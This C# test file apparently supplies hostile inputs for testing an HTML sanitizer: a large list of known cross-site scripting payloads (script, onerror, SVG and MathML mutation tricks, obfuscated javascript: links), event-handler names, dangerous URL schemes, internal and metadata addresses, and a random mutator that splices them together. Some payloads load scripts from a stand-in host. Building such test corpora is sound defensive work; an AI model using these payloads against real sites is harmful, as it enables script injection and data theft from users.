namespace EmulationM365.Tests.Effects;

/// <summary>
/// Texts by which people have tried to get a script, a stranger's image or a false link past a filter: the families that are written about everywhere, each with its known variations.
/// </summary>
internal static class HostileText
{
    private static readonly string[] Handlers =
    [
        "onabort", "onafterprint", "onanimationcancel", "onanimationend", "onanimationiteration", "onanimationstart", "onauxclick", "onbeforecopy", "onbeforecut", "onbeforeinput", "onbeforematch",
        "onbeforepaste", "onbeforeprint", "onbeforetoggle", "onbeforeunload", "onbegin", "onblur", "onbounce", "oncancel", "oncanplay", "oncanplaythrough", "onchange", "onclick", "onclose",
        "oncontentvisibilityautostatechange", "oncontextmenu", "oncopy", "oncuechange", "oncut", "ondblclick", "ondrag", "ondragend", "ondragenter", "ondragleave", "ondragover", "ondragstart", "ondrop",
        "ondurationchange", "onend", "onended", "onerror", "onfinish", "onfocus", "onfocusin", "onfocusout", "onformdata", "onfullscreenchange", "ongotpointercapture", "onhashchange", "oninput",
        "oninvalid", "onkeydown", "onkeypress", "onkeyup", "onload", "onloadeddata", "onloadedmetadata", "onloadstart", "onlostpointercapture", "onmessage", "onmousedown", "onmouseenter", "onmouseleave",
        "onmousemove", "onmouseout", "onmouseover", "onmouseup", "onmousewheel", "onpagehide", "onpageshow", "onpaste", "onpause", "onplay", "onplaying", "onpointercancel", "onpointerdown",
        "onpointerenter", "onpointerleave", "onpointermove", "onpointerout", "onpointerover", "onpointerrawupdate", "onpointerup", "onpopstate", "onprogress", "onratechange", "onrepeat", "onreset",
        "onresize", "onscroll", "onscrollend", "onscrollsnapchange", "onsearch", "onseeked", "onseeking", "onselect", "onselectionchange", "onselectstart", "onshow", "onstart", "onsubmit", "onsuspend",
        "ontimeupdate", "ontoggle", "ontouchend", "ontouchmove", "ontouchstart", "ontransitioncancel", "ontransitionend", "ontransitionrun", "ontransitionstart", "onunhandledrejection", "onunload",
        "onvolumechange", "onwaiting", "onwebkitanimationend", "onwheel",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "javascript\t:alert(1)",
        "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:alert(1)", "javascript&colon;alert(1)",
        "javascript&#58;alert(1)", "java&#x09;script:alert(1)", "java&#x0A;script:alert(1)", "java&NewLine;script:alert(1)", "java&Tab;script:alert(1)", "&#1;javascript:alert(1)", "&#14; javascript:alert(1)",
        "javascript://%0aalert(1)", "javascript:/*-/*`/*\\`/*'/*\"/**/(/* */alert(1) )//", "vbscript:msgbox(1)", "VBScript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=", "data:,x", "blob:https://mau.example/1", "filesystem:https://mau.example/1",
        "file:///etc/passwd", "ftp://mau.example/x", "http://mau.example/x", "//mau.example/x", "\\\\mau.example\\x", "/\\mau.example/x", "https:mau.example", "https:/mau.example", "https:\\\\mau.example",
        "https://localhost/x", "https://127.0.0.1/x", "https://127.1/x", "https://2130706433/x", "https://0x7f000001/x", "https://[::1]/x", "https://10.0.0.1/x", "https://169.254.169.254/latest", "https://may-chu/x",
        "https://nguoi@mau.example/x", "https://mau.example:pass@xau.example/x", "https://mau.example%40xau.example/x", "https://mau.example:8443/x", "https://xn--80ak6aa92e.com/", "https://аррӏе.com/", "https://mau\u0378.example/x", "https://mau\uFFFD.example/x", "https://\u2065mau.example/x", "https://mau\uD800.example/x", "https://xn--a.example/x", "https://mau\u1680x.example/x",
        "https://mau.local/x", "https://mau.internal/x", "https://mau.example\\@xau.example", "https://mau.example/\u202Egpj.exe\u0000", "https://mau.example/a b", "https://mau.example/<script>", "https://",
        "https://.", "https://..", "https://mau..example/", "mailto:mau@mau.example", "tel:0900000000", "sms:0900000000", "ms-word:ofe|u|https://mau.example", "intent://x#Intent;end", "x:y", "",
        "view-source:https://mau.example", "jar:https://mau.example!/x", "about:blank", "chrome://settings", "ws://mau.example", "urn:x", "res://x", "mhtml:https://mau.example", "feed:javascript:alert(1)",
    ];

    private static readonly string[] Places =
    [
        "<a href=\"{0}\">chữ</a>", "<img src=\"{0}\" alt=\"chữ\">", "<p><a href='{0}'>chữ</a></p>", "<form action=\"{0}\"><button formaction=\"{0}\">chữ</button></form>",
    ];

    private static readonly string[] Classics =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=https://xau.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script>", "<script>alert(1)", "<<script>alert(1);//<</script>",
        "<script/XSS SRC=\"https://xau.example/x.js\"></script>", "<script src=//xau.example/x></script>", "<script>a=/XSS/;alert(a.source)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img \"\"\"><script>alert(1)</script>\">", "<img/src=x/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img src='x'onerror='alert(1)'>", "<IMG SRC=# onmouseover=\"alert('x')\">",
        "<img src=\"livescript:[code]\">", "<img dynsrc=\"javascript:alert(1)\">", "<img lowsrc=\"javascript:alert(1)\">", "<img srcset=\"https://xau.example/x 2x\">", "<image src=x onerror=alert(1)>", "<img src onerror /\" '\"= alt=alert(1)//\">",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script>alert&#40;1)</script>", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=1 y=1>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)></svg>", "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></use></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><title><![CDATA[<img src=x onerror=alert(1)>]]></title></svg>", "<svg><image href=https://xau.example/x /></svg>", "<svg><desc><p title=\"</desc><script>alert(1)</script>\"></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>", "<math href=\"javascript:alert(1)\">x</math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(2)\">x</maction></math>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=https://xau.example></iframe>", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<object data=javascript:alert(1)></object>",
        "<object classid=clsid:ae24fdae><param name=url value=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<embed code=https://xau.example/x.swf allowscriptaccess=always>", "<applet code=javascript:confirm(1)>", "<isindex type=image src=1 onerror=alert(1)>",
        "<body onload=alert(1)>", "<BODY BACKGROUND=\"javascript:alert(1)\">", "<body onscroll=alert(1)><br><br><input autofocus>", "<html onmouseover=alert(1)>x", "<head><base href=\"javascript:\\\">", "<base href=https://xau.example/>", "<base target=_top>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"a=b\">", "<link rel=stylesheet href=javascript:alert(1)>", "<link rel=import href=data:text/html,x>", "<LINK REL=\"stylesheet\" HREF=\"https://xau.example/x.css\">",
        "<style>@import'https://xau.example/x.css';</style>", "<style>body{background:url(\"javascript:alert(1)\")}</style>", "<style>*{color:red}</style>", "<STYLE TYPE=\"text/javascript\">alert(1);</STYLE>", "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>", "<p style=\"-moz-binding:url(https://xau.example/x)\">x</p>", "<div style=position:fixed;inset:0>x</div>", "<a style=x:expression(alert(1))>x</a>", "<xss style=\"behavior:url(x.htc)\">x</xss>",
        "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:alert(1)\">x</table>", "<table><td background=javascript:alert(1)>", "<input type=image src=javascript:alert(1)>", "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus><option>x</select>",
        "<textarea onfocus=alert(1) autofocus>x</textarea>", "<keygen onfocus=alert(1) autofocus>", "<video><source onerror=alert(1)>", "<video src=x onerror=alert(1)>", "<video poster=javascript:alert(1)>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x",
        "<marquee onstart=alert(1)>x</marquee>", "<bgsound src=javascript:alert(1)>", "<br size=\"&{alert(1)}\">", "<layer src=https://xau.example/x></layer>", "<blink onclick=alert(1)>x</blink>", "<button onclick=alert(1)>x</button>", "<dialog open oncancel=alert(1)>x</dialog>",
        "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noembed><img src=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">", "<plaintext><img src=x onerror=alert(1)>", "<listing>&ltimg onerror=alert(1) src=x&gt</listing>", "<textarea><img src=\"</textarea><img src=x onerror=alert(1)>\">", "<title><img src=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!-- --!><img src=x onerror=alert(1)> -->", "<!--><script>alert(1)</script>", "<!---><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y \"z\">]>&y;",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<comment><img src=\"</comment><img src=x onerror=alert(1))//\">", "<?php echo('x')?>", "<%= 1 %><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}",
        "<a href=\"https://mau.example\" onclick=\"alert(1)\">x</a>", "<a href=https://mau.example target=_blank>x</a>", "<a name=getElementById>x</a>", "<form id=test><input name=parentNode></form>", "<img name=body>", "<form name=document><input name=cookie></form>",
        "<a id=x><a id=x name=y href=\"https://mau.example\">z</a></a>", "<p id=__proto__ class=x data-x=y aria-label=z>x</p>", "<p is=\"x-y\">x</p>", "<custom-element onclick=alert(1)>x</custom-element>", "<p contenteditable onblur=alert(1)>x</p>", "<p draggable=true ondragstart=alert(1)>x</p>",
        "<a href=\"https://mau.example\"><a href=\"javascript:alert(1)\">x</a></a>", "<p><p><p>x", "<b><i></b>x</i>", "<table><a href=javascript:alert(1)>x</table>", "<table><script>alert(1)</script><tr><td>x</table>", "<ul><script>alert(1)</script><li>x</ul>", "<li><svg onload=alert(1)>",
        "<select><template><script>alert(1)</script></template></select>", "<select><style></select><img src=x onerror=alert(1)></style>", "<form><div></form><svg><style></svg><img src=x onerror=alert(1)>", "<div><style></div><img src=x onerror=alert(1)>",
        "<a\u0000 href=javascript:alert(1)>x", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "\u0000<script>alert(1)</script>", "<script\u000C>alert(1)</script>", "<img\u000Bsrc=x onerror=alert(1)>", "\uFEFF<script>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "＜script＞alert(1)＜/script＞",
        "\u202Etxt.exe", "a\u200Bb\u200Cc\u200Dd", "\uD800<script>alert(1)</script>", "\uDFFF\uD800", "\uFFFE\uFFFF", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;img src=x onerror=alert(1)&#x3E;",
        "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "¼script¾alert(¢XSS¢)¼/script¾", "<", ">", "&", "\"", "'", "</p>", "<p", "<p title=\"", "<a href=", "<!--", "-->", "</", "<>", "< script>", "<0>", "&#0;", "&#xD800;", "&#1114112;",
        "<a href=\"https://mau.example/?a=1&b=2\">x</a>", "<a href=\"https://mau.example/?q=%22%3E%3Cscript%3E\">x</a>", "<a href=\"https://mau.example/'onmouseover='alert(1)\">x</a>", "<a href='https://mau.example/\"onmouseover=\"alert(1)'>x</a>", "<a href=https://mau.example/>x</a onclick=alert(1)>",
    ];

    /// <summary>Every one of them, once.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Classics
            .Concat(Handlers.Select((handler, number) => number % 2 == 0 ? $"<p {handler}=\"alert(1)\">chữ</p>" : $"<b\n{handler.ToUpperInvariant()} = alert(1)>chữ</b>"))
            .Concat(Addresses.SelectMany(address => Places.Select(place => place.Replace("{0}", address, StringComparison.Ordinal))))
            .Distinct(),
    ];

    /// <summary>Addresses that are refused wherever they stand.</summary>
    public static IReadOnlyList<string> Refused => Addresses;

    /// <summary>A text made of pieces of two of them: cut, doubled, turned, mixed with signs that parsers stumble over.</summary>
    public static string Mutant(Random random)
    {
        var (one, other) = (All[random.Next(All.Count)], All[random.Next(All.Count)]);
        for (var change = random.Next(1, 5); change > 0; change--)
        {
            var (at, to) = (random.Next(one.Length + 1), random.Next(other.Length + 1));
            one = random.Next(7) switch
            {
                0 => one[..at] + other[to..],
                1 => one.Insert(at, other),
                2 => one.Insert(at, Signs[random.Next(Signs.Length)]),
                3 => one.Remove(Math.Min(at, one.Length), Math.Min(random.Next(4), one.Length - at)),
                4 => one[at..] + one[..at],
                5 => one + one[at..],
                _ => at < one.Length ? one[..at] + (char)random.Next(1, random.Next(2) == 0 ? 0x80 : 0x10000) + one[(at + 1)..] : one,
            };
            if (one.Length > 2000) one = one[..2000];
        }

        return one;
    }

    private static readonly string[] Signs =
    [
        "<", ">", "\"", "'", "/", "=", "&", ";", "\0", "\t", "\n", "\f", "\r", " ", "\u00A0", "<p>", "</p>", "<br>", "<table>", "<tr>", "<td>", "</table>", "<a href=https://mau.example/>", "</a>", "<b>", "</b>", "<i>", "</i>", "<svg>", "<math>", "<style>",
        "</style>", "<!--", "-->", "<li>", "<ul>", "</ul>", "<h1>", "<select>", "<template>", "<form>", "<title>", "<![CDATA[", "]]>", "\u0301", "\u202E", "\uD83D", "\uDE00", "e\u0302\u0301", "<u>", "<em>",
    ];
}
